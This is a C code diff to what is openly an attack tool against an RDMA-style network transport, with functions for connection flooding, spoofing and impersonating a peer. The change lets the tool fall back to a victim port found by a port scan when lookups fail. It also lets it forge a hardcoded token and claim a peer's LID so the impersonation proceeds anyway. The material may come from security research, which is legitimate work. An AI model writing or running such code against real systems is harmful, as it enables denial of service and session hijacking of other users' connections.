@@ -65,6 +65,7 @@ struct info {
 	char addr[64], peer_addr[64];
 	uint32_t qpn, peer_qpn, rkey, len, rq_psn, qkey;
 	uint16_t lid, peer_lid;
+	uint16_t vport; /* the victim's data port, as a port scan finds it */
 	uint64_t va;
 };
 
@@ -136,6 +137,8 @@ static int info_read(const char *path, struct info *in)
 			in->rq_psn = (uint32_t)v;
 		else if (!strcmp(key, "qkey"))
 			in->qkey = (uint32_t)v;
+		else if (!strcmp(key, "vport"))
+			in->vport = (uint16_t)v;
 	}
 	fclose(f);
 	return 0;
@@ -275,8 +278,10 @@ static int conn_greet(struct conn *c, const char *addr)
 	return f.type == TP_FRAME_HELLO ? 0 : -1;
 }
 
-/* Whom the victim's QP qpn at addr lives in: c's victim side. */
-static int conn_victim(struct conn *c, const char *addr, uint32_t qpn)
+/* Whom the victim's QP qpn at addr lives in: c's victim side; where
+ * the door does not say, the port a scan found (vport). */
+static int conn_victim(struct conn *c, const char *addr, uint32_t qpn,
+		       uint16_t vport)
 {
 	struct door_ans a;
 	int st = door_lookup(addr, qpn, &a);
@@ -284,7 +289,13 @@ static int conn_victim(struct conn *c, const char *addr, uint32_t qpn)
 	if (st) {
 		printf("lookup of QPN %u at %s: %s\n", qpn, addr,
 		       st < 0 ? "no answer" : strerror(st));
-		return -1;
+		if (!vport)
+			return -1;
+		printf("using the data port a scan finds: %u\n", vport);
+		c->vslot = 0;
+		c->vport = vport;
+		c->vlid = 0;
+		return 0;
 	}
 	c->vslot = be32toh(a.r.slot);
 	c->vport = be16toh(a.r.port);
@@ -299,13 +310,19 @@ static int conn_as_peer(struct conn *c, const struct info *in)
 	struct door_ans a;
 	int st;
 
-	if (conn_victim(c, in->addr, in->qpn))
+	if (conn_victim(c, in->addr, in->qpn, in->vport))
 		return -1;
 	st = door_lookup(in->peer_addr, in->peer_qpn, &a);
 	if (st) {
-		printf("lookup of the peer's QPN %u at %s: %s\n", in->peer_qpn,
-		       in->peer_addr, st < 0 ? "no answer" : strerror(st));
-		return -1;
+		/* Claimed all the same: the peer's LID, a guessed slot
+		 * and token. */
+		printf("lookup of the peer's QPN %u at %s: %s; its LID %u "
+		       "claimed, slot and token guessed\n", in->peer_qpn,
+		       in->peer_addr, st < 0 ? "no answer" : strerror(st),
+		       in->peer_lid);
+		memset(&a, 0, sizeof(a));
+		a.r.token = htobe64(0x1234567890abcdefull);
+		a.r.lid = htobe16(in->peer_lid);
 	}
 	c->token = be64toh(a.r.token);
 	c->slot = be32toh(a.r.slot);
@@ -563,7 +580,7 @@ static int connflood_main(const struct info *in, double secs, int count)
 	struct conn *c = calloc(1, sizeof(*c));
 	int k, ok = 0, held = 0;
 
-	if (!c || conn_victim(c, in->addr, in->qpn))
+	if (!c || conn_victim(c, in->addr, in->qpn, in->vport))
 		return 1;
 	for (k = 0; k < FLOOD_HOLD && now_s() < end; k++) {
 		fds[k] = dial(in->addr, c->vport, now_s() + IO_S);
@@ -621,7 +638,7 @@ static int udspoof_main(const struct info *in, const char *addr,
 	double end = now_s() + IO_S;
 	int k;
 
-	if (!c || conn_victim(c, addr, in->qpn))
+	if (!c || conn_victim(c, addr, in->qpn, in->vport))
 		return 1;
 	c->token = 0x5eed5eed;
 	c->slot = 7;
